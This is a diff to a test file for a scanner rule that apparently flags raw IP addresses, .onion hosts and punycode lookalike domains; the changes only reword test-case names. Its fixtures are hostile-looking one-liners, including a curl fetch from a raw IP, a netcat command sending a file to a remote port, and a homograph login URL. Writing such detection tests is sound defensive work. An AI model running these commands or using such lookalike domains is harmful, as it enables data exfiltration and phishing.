@@ -3,11 +3,11 @@ import { rawAddress } from './raw-address.ts';
 
 ruleCases(rawAddress, {
   hits: [
-    { name: 'an address of numbers', path: 'a.sh', text: 'curl http://45.9.148.3:8080/a\n' },
+    { name: 'a numeric address', path: 'a.sh', text: 'curl http://45.9.148.3:8080/a\n' },
     { name: 'one in prose', text: 'Fetch http://45.9.148.3/a.txt first.\n' },
     { name: 'a hidden service', path: 'a.py', text: 'U = "http://abcdefghijklmnop.onion/x"\n' },
-    { name: 'a name in disguise', text: 'See https://xn--pple-43d.com/login for more.\n' },
-    { name: 'one that netcat is given', path: 'a.sh', text: 'nc 45.9.148.3 4444 < a\n' },
+    { name: 'a disguised name', text: 'See https://xn--pple-43d.com/login for more.\n' },
+    { name: 'one that is passed to netcat', path: 'a.sh', text: 'nc 45.9.148.3 4444 < a\n' },
   ],
   misses: [
     { name: 'this machine', path: 'a.sh', text: 'curl http://127.0.0.1:3000/health\n' },
